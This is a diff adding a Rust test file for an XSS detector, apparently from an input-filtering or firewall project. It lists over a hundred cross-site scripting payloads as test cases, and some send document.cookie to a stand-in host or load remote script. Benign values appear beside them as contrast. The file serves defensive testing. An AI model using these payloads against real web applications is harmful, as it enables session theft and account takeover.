@@ -1,0 +1,322 @@
+use proptest::prelude::*;
+
+use super::super::tests::{check_table, confidence, satisfies};
+use super::super::{Context, Detector, Place};
+
+const VALUE: Context = Context::of(Place::Value);
+const RICH: Context = Context { place: Place::Value, rich_text: true };
+
+const ATTACKS: &[&str] = &[
+    // Script elements.
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(document.cookie)</sCrIpT>",
+    "<script >alert`1`</script >",
+    "<script src=//x.example/a.js></script>",
+    "<script/src=\"https://x.example/a.js\"></script>",
+    "<SCRIPT SRC=http://x.example/x.js?< B >",
+    "<script\ntype=\"text/javascript\">javascript:alert(1);</script>",
+    "<<script>alert(1);//<</script>",
+    "\"><script>alert(1)</script>",
+    "'><script>eval(name)</script>",
+    "</script><script>alert(1)</script>",
+    "</title><script>confirm(1)</script>",
+    "<script>document.location='http://x.example/?'+document.cookie</script>",
+    "<script>new Image().src='//x.example/'+document.cookie</script>",
+    "<script>fetch('//x.example')</script>",
+    "<script>var a=1;b(a)</script>",
+    "<script>x</script>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><script href=data:,alert(1)></script>",
+    "< script >alert(1)</ script >",
+    "<img \"\"\"><script>alert(\"x\")</script>\">",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    // Handlers.
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)//",
+    "\"><img src=x onerror=prompt(1)>",
+    "<img/src/onerror=alert(1)>",
+    "<img src=\"x\"onerror=\"alert(1)\">",
+    "<img src=1 onerror=alert`1`>",
+    "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
+    "<svg/onload=alert(1)>",
+    "<svg onload=alert&lpar;1&rpar;>",
+    "<svg onload=top['al'+'ert'](1)>",
+    "<svg onload=location=name>",
+    "<svg onload=setTimeout(x)>",
+    "<body onload=alert(1)>",
+    "<body/onpageshow=alert(1)>",
+    "<body onhashchange=\"print()\">",
+    "<details open ontoggle=confirm(1)>",
+    "<details/open/ontoggle=\"alert`1`\">",
+    "<input onfocus=alert(1) autofocus>",
+    "<input autofocus onfocus=eval(atob('YWxlcnQoMSk='))>",
+    "<select autofocus onfocus=alert(1)>",
+    "<video><source onerror=\"alert(1)\"></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<x onclick=alert(1)>click",
+    "<x contenteditable onblur=alert(1)>lose focus</x>",
+    "<div onpointerenter=alert(1)>x</div>",
+    "<a onmouseover=\"alert(document.cookie)\">x</a>",
+    "<button onclick=fetch('//x.example/'+document.cookie)>x</button>",
+    "<style>@keyframes x{}</style><b style=\"animation-name:x\" onanimationstart=\"alert(1)\"></b>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<img src=x onerror=\"a=alert,a(1)\">",
+    "<img src=x onerror=\"[1].find(alert)\">",
+    "<img src=x onerror=throw/a/,alert>",
+    "<img src=x onerror=import('//x.example')>",
+    "<object onerror=alert(1)>",
+    "<iframe onload=alert(1)>",
+    "<math><mi onclick=alert(1)>x",
+    // URLs that run script.
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
+    "<a href=\"java\tscript:alert(1)\">x</a>",
+    "<a href=\" \u{1}javascript:alert(1)\">x</a>",
+    "<a href=javascript:alert`1`>x",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<iframe src=javascript:top.alert(1)>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<iframe srcdoc='<img src=x onerror=alert(1)>'>",
+    "<embed src=javascript:alert(1)>",
+    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
+    "<form action=javascript:alert(1)><input type=submit>",
+    "<form><button formaction=javascript:alert(1)>x",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
+    "<math href=\"javascript:alert(1)\">x</math>",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+    "<a href=\"vbscript:msgbox(1)\">x</a>",
+    "<img src=javascript:alert(String.fromCharCode(88,83,83))>",
+    "<link rel=import href=//x.example>",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(document.domain)//http://x",
+    "javascript://x\nalert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "javascript:/*--></title></style></textarea><svg onload='alert(1)'>",
+    // Styles.
+    "<style>@import'http://x.example/x.css';</style>",
+    "<div style=\"width:expression(alert(1))\">",
+    "<div style=\"background:url(javascript:alert(1))\">",
+    "<div style=\"-moz-binding:url(//x.example/x.xml#a)\">",
+    "<style>*{x:exp/**/ression(alert(1))}</style>",
+    // Out of an attribute.
+    "\" onmouseover=\"alert(1)",
+    "' onmouseover='alert(1)",
+    "\" autofocus onfocus=alert(1) x=\"",
+    "\"onclick=\"alert(1)",
+    "x\" onerror=\"alert(document.cookie)",
+    "\" style=\"x\" onmouseenter=prompt(1) \"",
+    "x onmouseover=alert(1)",
+    "onerror=alert(1)",
+    "\" href=javascript:alert(1) \"",
+    "'/onfocus='confirm(1)'/autofocus='",
+    // Out of a string of a script.
+    "';alert(1)//",
+    "\";alert(document.domain);//",
+    "'-alert(1)-'",
+    "\"-confirm`1`-\"",
+    "'+alert(1)+'",
+    "'));alert(1)//",
+    "\\';alert(1)//",
+    "'};alert(1);{'",
+    "\";eval(name)//",
+    "');document.location='//x.example'//",
+    "';window['alert'](1)//",
+    "</script><svg onload=alert(1)>",
+    "${alert(1)}",
+    "`;alert(1)//",
+    "{{constructor.constructor('alert(1)')()}}",
+    "{{$on.constructor('alert(1)')()}}",
+    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]]",
+    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
+];
+
+const HONEST: &[&str] = &[
+    "血糖<5.0 mmol/L",
+    "WBC<3.5或>9.5",
+    "a<b",
+    "a<b and c>d",
+    "x<y onset=3 days>",
+    "5 < 6 > 4",
+    "<3 thanks",
+    "I <b>really</b> mean it",
+    "<p>尊敬的王先生:</p><p>您的报告已出。</p>",
+    "<table border=\"1\"><tr><td>血压</td><td>120/80</td></tr></table>",
+    "<img src=\"https://cdn.example.org/a.png\" width=\"100\" alt=\"logo\">",
+    "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
+    "<a href=\"https://www.example.org/news?id=5&amp;lang=zh\" target=\"_blank\">查看</a>",
+    "<a href=\"javascript:void(0)\">返回</a>",
+    "<a href=\"javascript:;\" class=\"btn\">x</a>",
+    "<a href=\"javascript:\">x</a>",
+    "<a href='#' class='x'>x</a>",
+    "<span style=\"color:#ff0000;font-size:14px\">异常</span>",
+    "<div style=\"background:url(https://cdn.example.org/a.png)\">x</div>",
+    "<br/><hr />",
+    "<!-- comment -->",
+    "<!DOCTYPE html><html><head><title>报告</title></head><body><p>正常</p></body></html>",
+    "<?xml version=\"1.0\"?><order><id>1</id></order>",
+    "<xml><appid><![CDATA[wx2421b1c4370ec43b]]></appid></xml>",
+    "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body/></soap:Envelope>",
+    "<video src=\"https://cdn.example.org/a.mp4\" controls></video>",
+    "<svg width=\"10\" height=\"10\"><path d=\"M0 0h10v10z\"/></svg>",
+    "<style>p{color:red}</style>",
+    "<font color=red>x</font>",
+    "<input type=\"text\" name=\"only\" value=\"on\">",
+    "<option value=1 selected>一</option>",
+    "onset = 3 days ago",
+    "once = 1",
+    "on = true; off = false",
+    "only one = yes",
+    "online=1",
+    "onload=onloadCallback&render=explicit",
+    "https://www.recaptcha.example/api.js?onload=cb&render=explicit",
+    "alert (high)",
+    "Alert(s) and confirm(s)",
+    "please confirm (yes/no)",
+    "confirm()",
+    "prompt (see below)",
+    "eval form (page 2)",
+    "function(a,b){return a||b}",
+    "jQuery1124012345_1700000000",
+    "callback({\"a\":1})",
+    "window seat; document type",
+    "document.title",
+    "location: 3F",
+    "window.location.href",
+    "script for the play",
+    "JavaScript 入门教程",
+    "javascript: the good parts",
+    "data: text",
+    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ",
+    "{\"a\":\"b\",\"onclick\":\"x\"}",
+    "{\"onload\":true,\"event\":\"onclick\"}",
+    "it's \"good\" and 'fine'",
+    "\"quoted\" text; see document (1)",
+    "'a';'b'",
+    "{{name}}",
+    "${amount}",
+    "{{ user.name }} 您好",
+    "[]",
+    "[[1,2],[3,4]]",
+    "!!!",
+    "(((+)))",
+    "x => y",
+    "if (a < b) { c(); }",
+    "for (let i = 0; i<n; i++) {}",
+    "List<String> list = new ArrayList<>();",
+    "std::vector<int> v; v.push_back(1);",
+    "#include <stdio.h>",
+    "<name@example.org>",
+    "<https://example.org>",
+    "git clone <url>",
+    "usage: cmd <file> [options]",
+    "<- see above ->",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
+    "<p class=\"onclick\">alert(1) 是什么意思</p>",
+    "JSON.stringify(x) and parseInt(y)",
+    "at onerror (https://cdn.example.org/app.js:1:2345)",
+    "TypeError: window.foo is not a function",
+    "Uncaught Error: alert is not defined",
+];
+
+const HINTS: &[&str] = &[
+    "alert(1)",
+    "confirm('x')",
+    "<script>",
+    "</script>",
+    "<iframe src=//x.example>",
+    "<base href=//x.example/>",
+    "<a href=\"javascript:show(1)\">x</a>",
+    "<a href=\"#\" onclick=\"showReport(3)\">x</a>",
+    "<p onclick=\"this.className='on'\">x</p>",
+];
+
+#[test]
+fn attacks_block_and_honest_values_pass() {
+    check_table(Detector::Xss, VALUE, 80, ATTACKS, HONEST);
+}
+
+#[test]
+fn weak_signs_count_without_blocking() {
+    for value in HINTS {
+        let sure = confidence(Detector::Xss, value.as_bytes(), VALUE);
+        assert!((40..80).contains(&sure), "{value}: {sure}");
+    }
+}
+
+#[test]
+fn editors_may_send_markup_but_no_active_content() {
+    for value in HINTS.iter().chain(HONEST) {
+        assert_eq!(confidence(Detector::Xss, value.as_bytes(), RICH), 0, "{value}");
+    }
+    for value in
+        ["<p>x</p><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href=javascript:alert(1)>x</a>"]
+    {
+        assert!(confidence(Detector::Xss, value.as_bytes(), RICH) >= 80, "{value}");
+    }
+}
+
+fn any_value() -> impl Strategy<Value = Vec<u8>> {
+    let piece = prop::sample::select(vec![
+        "<",
+        ">",
+        "/",
+        "\"",
+        "'",
+        "`",
+        "=",
+        " ",
+        "script",
+        "img",
+        "src",
+        "svg",
+        "onload",
+        "onerror",
+        "onclick",
+        "alert",
+        "(1)",
+        "javascript:",
+        "data:text/html,",
+        "style",
+        "expression(",
+        "@import",
+        "//",
+        "iframe",
+        "srcdoc",
+        "</script>",
+        ";",
+        "-",
+        "${",
+        "{{",
+        "}",
+        "x",
+        "[]",
+        "!",
+        "+",
+        "<!--",
+        "document.cookie",
+        "eval",
+        "href",
+        "\n",
+        "&",
+        "中",
+    ]);
+    prop_oneof![
+        prop::collection::vec(any::<u8>(), 0..120),
+        prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat().into_bytes()),
+    ]
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(2000))]
+    #[test]
+    fn any_value_is_judged_and_a_finding_meets_the_requirement(value in any_value()) {
+        if let Some(finding) = Detector::Xss.find(&value, VALUE) {
+            prop_assert!(value.get(finding.span.clone()).is_some());
+            prop_assert!(satisfies(&value, &Detector::Xss.requirement()), "{}", finding.path);
+        }
+    }
+}
